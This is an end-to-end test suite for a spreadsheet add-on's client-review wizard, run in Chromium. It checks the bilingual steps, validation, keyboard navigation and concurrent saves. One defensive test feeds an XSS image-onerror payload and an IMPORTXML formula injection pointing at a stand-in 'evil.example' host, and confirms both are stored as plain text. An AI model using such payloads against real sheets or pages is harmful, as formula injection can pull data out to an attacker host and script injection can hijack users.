/**
 * The review wizard in Debian's Chromium (layer 4): the real dist/sidebar.html, whose
 * google.script.run reaches the real bundle running in the local workbook. Chromium must be
 * installed (apt-get install -y chromium); without it these tests fail.
 */
import { clients } from '../../sheets-templates/clients';
import { monitoring } from '../../sheets-templates/monitoring';
import type { TableTemplate } from '../../sheets-templates/types';
import { expandColumns, findLayout } from '../../sheets-templates/layout';
import { type Lang, texts } from '../../src/i18n';
import { addDays, dayOf } from '../../src/core/days';
import { type Server, SidebarBrowser, type SidebarPage } from '../../tools/sidebar-browser';
import { LocalWorkbook } from '../../tools/local-workbook';

/** Chromium and a workbook per test take seconds, not milliseconds. */
const SLOW = 120_000;

let browser: SidebarBrowser;
beforeAll(async () => {
  browser = await SidebarBrowser.launch();
}, SLOW);
afterAll(async () => {
  await browser?.close();
});

function workbook(locale: string, setup = true) {
  const wb = new LocalWorkbook({ locale });
  const { run } = wb.load();
  if (setup) run('setupWorkbook');
  const server: Server = (name, args) => run(name, ...args);
  return { wb, run, server };
}

/** A row by template key, through the sheet's own header. */
function rowOf(wb: LocalWorkbook, sheet: string, template: TableTemplate, row: number) {
  const header = wb.values(sheet, '1:1')[0];
  const values = wb.values(sheet, `${row}:${row}`)[0];
  const layout = findLayout(template, header);
  return Object.fromEntries(
    expandColumns(template).map((p) => [p.key, values[layout.columns.get(p.key)! - 1]]),
  );
}

/** Every column of the row, checked: numbers closely, the rest exactly. */
function expectRow(
  actual: Record<string, unknown>,
  expected: Record<string, unknown>,
  template: TableTemplate,
) {
  expect(Object.keys(expected).sort()).toEqual(
    expandColumns(template)
      .map((p) => p.key)
      .sort(),
  );
  for (const [key, want] of Object.entries(expected)) {
    const got = actual[key];
    if (typeof want === 'number' && !Number.isInteger(want)) {
      expect({ key, got: typeof got }).toEqual({ key, got: 'number' });
      expect(got as number).toBeCloseTo(want, 9);
    } else expect({ key, got }).toEqual({ key, got: want });
  }
}

const today = () => dayOf(new Date(), 'Europe/Moscow');
const firstOfMonth = () => new Date(new Date().getFullYear(), new Date().getMonth(), 1);
const firstOfMonthDay = () => `${today().slice(0, 8)}01`;
const day = (iso: string) =>
  new Date(Number(iso.slice(0, 4)), Number(iso.slice(5, 7)) - 1, Number(iso.slice(8, 10)));

async function expectClean(s: SidebarPage) {
  expect(s.errors).toEqual([]);
  expect(s.dialogs).toEqual([]);
  expect(browser.blocked.every((u) => u.startsWith('https://ssl.gstatic.com/'))).toBe(true);
}

async function fillStep4(s: SidebarPage, lang: Lang, answer: string) {
  await s.page.locator('#f-priceAsked-yes').check();
  await s.fill({ priceAnswer: answer });
  await s.page.locator('#f-discussed').check();
  await s.page.locator('#f-discountBuys-shelf').check();
  await s.page.locator('#f-discountBuys-loyalty').check();
  expect(await s.byLabel(texts[lang].wizard.price.gains.information).isChecked()).toBe(false);
}

/** Types a name on step 1 and walks through to the result with everything else blank. */
async function nameOnly(s: SidebarPage, name: string) {
  await s.fill({ name });
  for (let i = 0; i < 4; i++) await s.page.locator('#next').click();
  expect(await s.title()).toBe(
    texts[(await s.page.getAttribute('html', 'lang')) as Lang].wizard.result.title,
  );
}

async function saveAndWait(s: SidebarPage) {
  await s.page.locator('#next').click();
  await s.page.locator('#status:not(:empty), #confirm:visible, #alert:not(:empty)').first().waitFor();
}

describe('the review wizard in Chromium', () => {
  it(
    'walks a Russian manager through the five steps and saves both rows, cell by cell',
    async () => {
      const { wb, server } = workbook('ru_RU', false);
      const t = texts.ru.wizard;
      const s = await browser.open(server);
      expect(await s.page.getAttribute('html', 'lang')).toBe('ru');
      expect(await s.text('#step-of')).toBe('Шаг 1 из 5');
      expect(await s.title()).toBe(t.client.title);

      await s.byLabel(t.client.name).fill('ТД «Северный»');
      await s.byLabel(t.client.region).fill('Санкт-Петербург');
      await s.byLabel(t.client.manager).fill('Иванова');
      await s.byLabel(t.client.contact).fill('Анна Петрова');
      await s.byLabel(t.client.phone).fill('+7 999 123-45-67');
      await s.byLabel(t.client.email).fill('anna@sever.ru');
      await s.screenshot('ru-1-client');
      await s.enter();

      expect(await s.title()).toBe(t.why.title);
      expect(await s.text('#live-segment')).toBe('—');
      await s.byLabel(t.why.purchasesBefore).fill('1 500 000');
      await s.byLabel(t.why.purchasesNow).fill('1 200 000');
      await s.byLabel(t.why.retailForecast).fill('-20 %');
      expect(await s.text('#live-segment')).toBe('1 — Ожидает падения');
      await s.byLabel(t.why.retailChange).fill('-18%');
      await s.byLabel(t.why.overdueDays).fill('12');
      expect(await s.text('#live-segment')).toBe('2 — Падение зафиксировано');
      expect(await s.text('#live-why')).toMatch(
        /^Розничные продажи изменились на -18\s%: падение не меньше порога 5\s%\.$/,
      );
      await s.screenshot('ru-2-why');
      await s.page.locator('#next').click();

      expect(await s.title()).toBe(t.monitoring.title);
      // Block 1's dynamics (the retail change) and block 6's (the days overdue) were asked in step 2.
      expect(await s.page.locator('#f-totalSalesDynamics, #f-solvencyDynamics').count()).toBe(0);
      expect(await s.field('period').inputValue()).toBe(firstOfMonthDay());
      await s.fill({
        totalSalesForecast: 'Ждут спада зимой',
        ourSalesDynamics: '-15%',
        competitorSalesDynamics: '5%',
        ourPurchasesDynamics: '-30%',
        competitorPurchasesDynamics: '0,1',
        solvencyForecast: 'Обещают погасить',
      });
      await s.field('decisionMakerDynamics').selectOption('no');
      await s.screenshot('ru-3-monitoring');
      await s.field('solvencyForecast').press('Enter');

      expect(await s.title()).toBe(t.price.title);
      await fillStep4(s, 'ru', 'Важна отсрочка, не скидка');
      await s.screenshot('ru-4-price');
      await s.page.locator('#next').click();

      expect(await s.title()).toBe(t.result.title);
      expect(await s.text('#result-segment')).toBe('2 — Падение зафиксировано');
      expect(await s.text('#result-action')).toBe(texts.ru.segment.actions[2]);
      expect(await s.page.locator('#result-advice li').allTextContents()).toEqual(t.result.advice[2]);
      const nextContact = addDays(today(), 14);
      expect(await s.field('nextContact').inputValue()).toBe(nextContact);
      expect(await s.text('#next')).toBe(t.buttons.save);
      await s.screenshot('ru-5-result');
      await saveAndWait(s);
      expect(await s.text('#status')).toBe(t.saved('Клиенты', 2));
      await s.screenshot('ru-6-saved');

      expectRow(
        rowOf(wb, 'Клиенты', clients, 2),
        {
          name: 'ТД «Северный»',
          region: 'Санкт-Петербург',
          manager: 'Иванова',
          contact: 'Анна Петрова',
          phone: '+7 999 123-45-67',
          email: 'anna@sever.ru',
          purchasesBefore: 1500000,
          creditLimit: '',
          paymentTerms: '',
          priceAsked: 'Да',
          priceAnswer: 'Важна отсрочка, не скидка',
          discountBuys: 'Больше нашего ассортимента на полке, Лояльность клиента',
          nextContact: day(nextContact),
          // The review is a contact; the next one is two weeks away, beyond the agenda's 7 days.
          lastContact: day(today()),
          contactDue: '',
          // The rest comes from the client's latest (here its only) Monitoring period.
          latestPeriod: firstOfMonth(),
          latestShipments: 1200000,
          shipmentsVsBefore: -0.2,
          segment: '2 — Падение зафиксировано',
          segmentReason: expect.stringMatching(/^Розничные продажи изменились на -18\s%/),
          segmentChange: '',
          signals:
            'Общий спрос падает: пересмотрите сегмент клиента; Уходит к конкурентам: выясните причину, проверьте чувствительность к цене, обновите предложение; Распродаёт запасы: полка опустеет, предложите оптимальный размер заказа',
          action: texts.ru.segment.actions[2],
          latestSalesChange: -0.18,
          purchaseTarget: 1230000,
          latestOverdue: '',
          safeCap: '',
          discountRequests: 0,
          // The review doesn't ask for a market segment: the client is left out of the focus dose.
          marketSegment: '',
          focus: 'без сегмента',
        },
        clients,
      );
      expectRow(
        rowOf(wb, 'Мониторинг', monitoring, 2),
        {
          client: 'ТД «Северный»',
          period: firstOfMonth(),
          shipments: 1200000,
          // Step 2's recorded retail change is block 1 of the period: the segment the sidebar showed.
          totalSalesDynamics: -0.18,
          totalSalesForecast: 'Ждут спада зимой',
          totalSalesActions: '',
          ourSalesDynamics: -0.15,
          ourSalesForecast: '',
          ourSalesActions: '',
          competitorSalesDynamics: 0.05,
          competitorSalesForecast: '',
          competitorSalesActions: '',
          ourPurchasesDynamics: -0.3,
          ourPurchasesForecast: '',
          ourPurchasesActions: '',
          competitorPurchasesDynamics: 0.1,
          competitorPurchasesForecast: '',
          competitorPurchasesActions: '',
          solvencyDynamics: 12,
          solvencyForecast: 'Обещают погасить',
          solvencyActions: '',
          decisionMakerDynamics: 'Нет',
          decisionMakerForecast: '',
          decisionMakerActions: '',
          retailForecast: -0.2,
          overdueAmount: '',
          // The Monitoring sheet reads the period at once.
          signals:
            'Общий спрос падает: пересмотрите сегмент клиента; Уходит к конкурентам: выясните причину, проверьте чувствительность к цене, обновите предложение; Распродаёт запасы: полка опустеет, предложите оптимальный размер заказа',
          shipmentsChange: '',
          segment: '2 — Падение зафиксировано',
          segmentReason: expect.stringMatching(/^Розничные продажи изменились на -18\s%/),
          previousSegment: '',
          segmentChange: '',
          previousOverdue: '',
        },
        monitoring,
      );
      expect(wb.activeSheetName()).toBe('Клиенты');
      expect(s.calls).toEqual(['wizardStart', 'saveClientReview']);
      await expectClean(s);
      expect(browser.blocked).toContain('https://ssl.gstatic.com/docs/script/css/add-ons1.css');
    },
    SLOW,
  );

  it(
    'does the same in English for an insolvent client, appending after the sample rows',
    async () => {
      const { wb, run, server } = workbook('en_US');
      run('addSampleData');
      const t = texts.en.wizard;
      const s = await browser.open(server);
      expect(await s.page.getAttribute('html', 'lang')).toBe('en');
      expect(await s.text('#step-of')).toBe('Step 1 of 5');
      await s.fill({ name: 'Baltic House', region: 'Kaliningrad', email: 'buyer@baltic.example' });
      await s.screenshot('en-1-client');
      await s.enter();
      await s.fill({
        purchasesNow: '420000',
        retailChange: '-10%',
        retailForecast: '0,1',
        overdueDays: '30',
      });
      await s.byLabel(t.why.insolvent).check();
      expect(await s.field('overdueDays').isDisabled()).toBe(true);
      expect(await s.text('#live-segment')).toBe('3 — Insolvent');
      expect(await s.text('#live-why')).toBe(t.reasons.insolvent);
      await s.screenshot('en-2-why');
      await s.enter();
      await s.field('decisionMakerDynamics').selectOption('yes');
      await s.fill({ decisionMakerForecast: 'New owner since May' });
      await s.screenshot('en-3-monitoring');
      await s.page.locator('#next').click();
      await s.byLabel(t.price.no).check();
      await s.screenshot('en-4-price');
      await s.page.locator('#next').click();
      expect(await s.text('#result-segment')).toBe('3 — Insolvent');
      expect(await s.text('#result-action')).toBe(texts.en.segment.actions[3]);
      expect(await s.text('#f-nextContact-hint')).toBe(t.result.nextContactHint(7));
      await s.field('nextContact').fill('2031-01-15');
      await s.screenshot('en-5-result');
      await saveAndWait(s);
      expect(await s.text('#status')).toBe(t.saved('Clients', 14));
      await s.screenshot('en-6-saved');

      expectRow(
        rowOf(wb, 'Clients', clients, 14),
        {
          name: 'Baltic House',
          region: 'Kaliningrad',
          manager: '',
          contact: '',
          phone: '',
          email: 'buyer@baltic.example',
          purchasesBefore: '',
          creditLimit: '',
          paymentTerms: '',
          priceAsked: 'No',
          priceAnswer: '',
          discountBuys: '',
          nextContact: new Date(2031, 0, 15),
          lastContact: day(today()),
          contactDue: '',
          latestPeriod: firstOfMonth(),
          latestShipments: 420000,
          shipmentsVsBefore: '',
          segment: '3 — Insolvent',
          segmentReason: t.reasons.insolvent,
          segmentChange: '',
          signals: expect.stringMatching(
            /^Insolvent: .* \(also seen: total demand falls, new decision maker\)$/,
          ),
          action: texts.en.segment.actions[3],
          latestSalesChange: -0.1,
          purchaseTarget: '',
          latestOverdue: '',
          safeCap: 105000,
          discountRequests: 0,
          marketSegment: '',
          focus: 'no segment',
        },
        clients,
      );
      // Below the sample clients' three months of history.
      const m = rowOf(wb, 'Monitoring', monitoring, 38);
      expect(m.client).toBe('Baltic House');
      expect(m.period).toEqual(firstOfMonth());
      expect(m.decisionMakerDynamics).toBe('Yes');
      expect(m.decisionMakerForecast).toBe('New owner since May');
      expect(m.signals).toBe(
        `${texts.en.monitoring.signals.insolvent} (also seen: total demand falls, new decision maker)`,
      );
      expect(
        Object.entries(m)
          .filter(([, v]) => v !== '')
          .map(([k]) => k),
      ).toEqual([
        'client',
        'period',
        'shipments',
        'totalSalesDynamics',
        'solvencyDynamics',
        'decisionMakerDynamics',
        'decisionMakerForecast',
        'retailForecast',
        'signals',
        'segment',
        'segmentReason',
      ]);
      expect(rowOf(wb, 'Clients', clients, 13).name).toBe('+Плюс Дистрибуция');
      await expectClean(s);
    },
    SLOW,
  );

  it(
    'blocks a bad name, e-mail or number with a message under the field, and the server refuses them too',
    async () => {
      const { wb, server } = workbook('ru_RU');
      const t = texts.ru.wizard;
      const s = await browser.open(server);
      await s.enter();
      expect(await s.title()).toBe(t.client.title);
      expect(await s.problem('name')).toBe('⚠ Название клиента: обязательное поле');
      expect(await s.field('name').getAttribute('aria-invalid')).toBe('true');
      expect(await s.field('name').getAttribute('aria-describedby')).toBe('f-name-error');
      expect(await s.page.evaluate(() => document.activeElement?.id)).toBe('f-name');
      expect(await s.text('#alert')).toBe(t.checkFields);

      await s.fill({ name: 'Север', email: 'anna@sever' });
      await s.page.locator('#next').click();
      expect(await s.title()).toBe(t.client.title);
      expect(await s.problem('name')).toBe('');
      expect(await s.field('name').getAttribute('aria-invalid')).toBeNull();
      expect(await s.problem('email')).toBe(
        '⚠ Эл. почта: «anna@sever» — не адрес электронной почты, например name@company.ru',
      );
      expect(await s.field('email').getAttribute('aria-describedby')).toBe('f-email-hint f-email-error');
      await s.screenshot('ru-errors-1-client');
      await s.fill({ email: 'anna@sever.ru' });
      expect(await s.problem('email')).toBe('');
      await s.enter();

      expect(await s.title()).toBe(t.why.title);
      await s.fill({ purchasesNow: 'много', retailChange: '-12' });
      expect(await s.text('#live-why')).toBe(t.why.fixFirst);
      await s.enter();
      expect(await s.title()).toBe(t.why.title);
      expect(await s.problem('purchasesNow')).toBe('⚠ Закупки сейчас, в месяц: «много» — не число');
      expect(await s.problem('retailChange')).toBe(
        '⚠ Зафиксированное изменение розничных продаж: «-12» — падение больше 100 %; введите процент, например -12%',
      );
      await s.screenshot('ru-errors-2-why');
      await s.fill({ purchasesNow: '100 000', retailChange: '-12%' });
      await s.enter();
      expect(await s.title()).toBe(t.monitoring.title);
      await s.fill({ ourSalesDynamics: 'упали' });
      await s.enter();
      expect(await s.problem('ourSalesDynamics')).toBe(
        '⚠ Продажи нашего ассортимента: Динамика, %: «упали» — не число',
      );

      const result = await s.page.evaluate(
        () =>
          new Promise((resolve) => {
            type Run = {
              withSuccessHandler(f: (v: unknown) => void): Run;
              saveClientReview(form: object, mode: string): void;
            };
            (window as unknown as { google: { script: { run: Run } } }).google.script.run
              .withSuccessHandler(resolve)
              .saveClientReview({ name: '  ', email: 'x', purchasesNow: 'lots' }, 'new');
          }),
      );
      expect(result).toEqual({
        status: 'invalid',
        errors: [
          { field: 'name', code: 'required', value: '  ' },
          { field: 'email', code: 'email', value: 'x' },
          { field: 'purchasesNow', code: 'notNumber', value: 'lots' },
        ],
      });
      expect(
        wb
          .values('Клиенты', 'A2:C3')
          .flat()
          .every((v) => v === ''),
      ).toBe(true);
      expect(s.calls).toEqual(['wizardStart', 'saveClientReview']);
      await expectClean(s);
    },
    SLOW,
  );

  it(
    'moves by keyboard: Tab through the fields in order, Enter for Next, and focus on each step’s first field',
    async () => {
      const { server } = workbook('en_US');
      const s = await browser.open(server);
      const focused = () => s.page.evaluate(() => document.activeElement?.id);
      expect(await focused()).toBe('f-name');
      const order: Array<string | undefined> = [];
      for (let i = 0; i < 8; i++) {
        await s.page.keyboard.press('Tab');
        order.push(await focused());
      }
      expect(order).toEqual([
        'f-region',
        'f-manager',
        'f-contact',
        'f-phone',
        'f-email',
        'f-creditLimit',
        'f-paymentTerms',
        'next',
      ]);
      await s.page.keyboard.press('Shift+Tab');
      await s.page.keyboard.type('30');
      expect(await s.field('paymentTerms').inputValue()).toBe('30');
      await s.field('name').fill('Keyboard Ltd');
      await s.enter();
      expect(await focused()).toBe('f-purchasesBefore');
      await s.enter();
      expect(await focused()).toBe('f-period');
      const styles = await s.page.evaluate(() => ({
        font: getComputedStyle(document.body).fontFamily,
        next: getComputedStyle(document.getElementById('next')!).backgroundImage,
        width: document.querySelector('.wizard')!.getBoundingClientRect().width,
      }));
      expect(styles.font).toContain('Arial');
      expect(styles.next).toContain('linear-gradient');
      expect(styles.width).toBeLessThanOrEqual(300);
      await expectClean(s);
    },
    SLOW,
  );

  it(
    'shows hostile input as text and stores names starting with = + - @ exactly as typed',
    async () => {
      const { wb, server } = workbook('en_US');
      const s = await browser.open(server);
      const names = [
        '<img src=x onerror=alert(1)>',
        '=IMPORTXML("http://evil.example"; "//a")',
        '+7 999 000-00-00',
        '-1 Minus',
        '@home',
      ];
      for (const name of names) {
        await nameOnly(s, name);
        await saveAndWait(s);
        expect(await s.text('#status')).toMatch(/^Saved: “Clients”, row \d+\./);
        await s.page.locator('#again').click();
        expect(await s.field('name').inputValue()).toBe('');
      }
      const saved = wb.values('Clients', 'A2:A6').map((r) => r[0]);
      expect(saved).toEqual(names);
      expect(wb.formulas('Clients', 'A2:A6').flat()).toEqual(['', '', '', '', '']);
      expect(wb.values('Monitoring', 'A2:A6').map((r) => r[0])).toEqual(names);

      await nameOnly(s, names[0]);
      await saveAndWait(s);
      expect(await s.text('#confirm-text')).toBe(texts.en.wizard.duplicate(names[0], 'Clients', 2));
      expect(await s.page.locator('img').count()).toBe(0);
      await s.screenshot('en-hostile-duplicate');
      expect(await s.page.evaluate(() => document.querySelectorAll('[onerror]').length)).toBe(0);
      await expectClean(s);
    },
    SLOW,
  );

  it(
    'asks before updating a client of the same name and before replacing its row of this period; Cancel writes nothing',
    async () => {
      const { wb, server } = workbook('ru_RU');
      const t = texts.ru.wizard;
      const s = await browser.open(server);
      await s.fill({ name: 'Дон-Трейд', region: 'Ростов' });
      await s.enter();
      await s.fill({ retailChange: '-20%' });
      for (let i = 0; i < 3; i++) await s.page.locator('#next').click();
      await saveAndWait(s);
      await s.page.locator('#again').click();

      await s.fill({ name: '  дон-трейд ' });
      await s.enter();
      await s.fill({ retailForecast: '-10%' });
      for (let i = 0; i < 3; i++) await s.page.locator('#next').click();
      await saveAndWait(s);
      expect(await s.text('#confirm-text')).toBe(t.duplicate('Дон-Трейд', 'Клиенты', 2));
      expect(await s.text('#update')).toBe(t.buttons.update(2));
      expect(await s.page.evaluate(() => document.activeElement?.id)).toBe('update');
      expect(await s.page.locator('#next').isVisible()).toBe(false);
      await s.screenshot('ru-duplicate');
      const before = [wb.values('Клиенты', 'A2:Z3'), wb.values('Мониторинг', 'A2:Z3')];

      await s.page.locator('#cancel').click();
      expect(await s.page.locator('#confirm').isVisible()).toBe(false);
      expect([wb.values('Клиенты', 'A2:Z3'), wb.values('Мониторинг', 'A2:Z3')]).toEqual(before);
      expect(await s.field('retailForecast').inputValue()).toBe('-10%');

      await saveAndWait(s);
      await s.page.locator('#update').click();
      // This month already has the client's row: the second question, about that row.
      await s.page.locator('#update', { hasText: t.buttons.replace(2) }).waitFor();
      expect(await s.text('#confirm-text')).toBe(
        t.periodExists(firstOfMonthDay().split('-').reverse().join('.'), 'Мониторинг', 2),
      );
      expect(await s.text('#update')).toBe(t.buttons.replace(2));
      expect([wb.values('Клиенты', 'A2:Z3'), wb.values('Мониторинг', 'A2:Z3')]).toEqual(before);
      await s.page.locator('#update').click();
      await s.page.locator('#status:not(:empty)').waitFor();
      expect(await s.text('#status')).toBe(t.updated('Клиенты', 2));
      const row = rowOf(wb, 'Клиенты', clients, 2);
      expect([row.name, row.region, row.segment]).toEqual(['дон-трейд', '', '1 — Ожидает падения']);
      expect(wb.values('Клиенты', 'A3')).toEqual([['']]);
      // The same period's row, updated; no second row for it.
      const m = rowOf(wb, 'Мониторинг', monitoring, 2);
      expect([m.client, m.totalSalesDynamics, m.retailForecast]).toEqual(['дон-трейд', '', -0.1]);
      expect(wb.values('Мониторинг', 'A3')).toEqual([['']]);
      await expectClean(s);
    },
    SLOW,
  );

  it(
    'reviews an existing client: picked from the list, the form starts from its latest period, and the save adds this period',
    async () => {
      const { wb, run, server } = workbook('ru_RU');
      run('addSampleData');
      const t = texts.ru.wizard;
      const s = await browser.open(server);
      expect(await s.page.evaluate(() => document.activeElement?.id)).toBe('f-pick');
      await s.field('pick').selectOption('Черноземье');
      await s.page.locator('#status', { hasText: t.client.prefilled('01.10.2026') }).waitFor();
      expect(await s.field('name').inputValue()).toBe('Черноземье');
      expect(await s.field('purchasesBefore').inputValue()).toBe('600000');
      await s.screenshot('ru-existing-1-picked');
      await s.page.locator('#next').click();
      expect(await s.field('purchasesNow').inputValue()).toBe('560000');
      expect(await s.field('retailChange').inputValue()).toBe('-4%');
      expect(await s.field('overdueDays').inputValue()).toBe('5');
      expect(await s.field('overdueAmount').inputValue()).toBe('20000');
      expect(await s.text('#live-segment')).toBe('0 — Нет сигнала кризиса');
      await s.fill({ purchasesNow: '480 000', retailChange: '-9%', overdueDays: '10' });
      expect(await s.text('#live-segment')).toBe('2 — Падение зафиксировано');
      await s.enter();
      expect(await s.field('period').inputValue()).toBe(firstOfMonthDay());
      expect(await s.field('ourSalesDynamics').inputValue()).toBe('-3%');
      for (let i = 0; i < 2; i++) await s.page.locator('#next').click();
      await saveAndWait(s);
      expect(await s.text('#status')).toBe(t.updated('Клиенты', 9));
      const c = rowOf(wb, 'Клиенты', clients, 9);
      expect([c.region, c.purchasesBefore, c.segment, c.segmentChange]).toEqual([
        'Воронеж',
        600000,
        '2 — Падение зафиксировано',
        '0 → 2',
      ]);
      expect(c.latestPeriod).toEqual(firstOfMonth());
      // A new row for this period, below the history; the earlier rows as they were.
      const m = rowOf(wb, 'Мониторинг', monitoring, 38);
      expect([m.client, m.shipments, m.totalSalesDynamics, m.solvencyDynamics]).toEqual([
        'Черноземье',
        480000,
        -0.09,
        10,
      ]);
      expect(rowOf(wb, 'Мониторинг', monitoring, 33).shipments).toBe(560000);
      await expectClean(s);
    },
    SLOW,
  );

  it(
    'lands two saves made at the same moment from two sidebars, neither overwriting the other',
    async () => {
      const { wb, run } = workbook('ru_RU');
      // Both saves reach the server before either runs, as when two managers press Save together.
      let arrived = 0;
      let bothArrived: () => void = () => undefined;
      const together = new Promise<void>((resolve) => (bothArrived = resolve));
      const server: Server = async (name, args) => {
        if (name === 'saveClientReview' && ++arrived === 2) bothArrived();
        if (name === 'saveClientReview') await together;
        return run(name, ...args);
      };
      const a = await browser.open(server);
      const b = await browser.open(server);
      for (const [s, name] of [
        [a, 'Уралснаб'],
        [b, 'Камский опт'],
      ] as const) {
        await s.fill({ name });
        await s.enter();
        await s.fill({ retailForecast: '-8%' });
        for (let i = 0; i < 3; i++) await s.page.locator('#next').click();
      }
      wb.resetCalls();
      await Promise.all([a.page.locator('#next').click(), b.page.locator('#next').click()]);
      await Promise.all([a, b].map((s) => s.page.locator('#status:not(:empty)').waitFor()));
      await Promise.all([a, b].map((s) => s.page.locator('#again').waitFor()));
      expect(arrived).toBe(2);
      const statuses = [await a.text('#status'), await b.text('#status')].sort();
      expect(statuses).toEqual([texts.ru.wizard.saved('Клиенты', 2), texts.ru.wizard.saved('Клиенты', 3)]);
      expect(
        wb
          .values('Клиенты', 'A2:A4')
          .map((r) => r[0])
          .sort(),
      ).toEqual(['', 'Камский опт', 'Уралснаб']);
      expect(
        wb
          .values('Мониторинг', 'A2:A4')
          .map((r) => r[0])
          .sort(),
      ).toEqual(['', 'Камский опт', 'Уралснаб']);
      const calls = wb.callsByMethod();
      expect([calls['Lock.tryLock'], calls['Lock.releaseLock']]).toEqual([2, 2]);
      for (const w of wb.writes()) expect(w.locks).toContain('document');
      await expectClean(a);
      await expectClean(b);
    },
    SLOW,
  );

  it(
    'shows a server failure as a readable message and keeps everything typed',
    async () => {
      const { wb, run } = workbook('en_US');
      const t = texts.en.wizard;
      let failNext = false;
      const server: Server = (name, args) => {
        if (failNext && name === 'saveClientReview') {
          failNext = false;
          throw new Error('Exceeded maximum execution time');
        }
        return run(name, ...args);
      };
      const s = await browser.open(server);
      await s.fill({ name: 'Volga Distribution', region: 'Samara' });
      await s.enter();
      await s.fill({ retailChange: '-2%', retailForecast: '-15%' });
      for (let i = 0; i < 3; i++) await s.page.locator('#next').click();

      wb.holdLocksElsewhere();
      await saveAndWait(s);
      expect(await s.text('#alert')).toBe(t.busy);
      expect(await s.title()).toBe(t.result.title);
      expect(await s.text('#next')).toBe(t.buttons.save);
      expect(await s.page.locator('#next').isEnabled()).toBe(true);

      wb.holdLocksElsewhere(false);
      failNext = true;
      await s.page.locator('#next').click();
      await s.page.locator('#alert:not(:empty)').waitFor();
      expect(await s.text('#alert')).toBe(t.failed('Exceeded maximum execution time'));
      await s.screenshot('en-server-error');
      expect(wb.values('Clients', 'A2')).toEqual([['']]);

      await s.page.locator('#back').click();
      await s.page.locator('#back').click();
      await s.page.locator('#back').click();
      expect(await s.field('retailForecast').inputValue()).toBe('-15%');
      await s.page.locator('#back').click();
      expect(await s.field('region').inputValue()).toBe('Samara');
      for (let i = 0; i < 4; i++) await s.page.locator('#next').click();
      await saveAndWait(s);
      expect(await s.text('#status')).toBe(t.saved('Clients', 2));
      expect(await s.text('#alert')).toBe('');
      expect(wb.values('Clients', 'A2:B2')).toEqual([['Volga Distribution', 'Samara']]);
      await expectClean(s);
    },
    SLOW,
  );
});
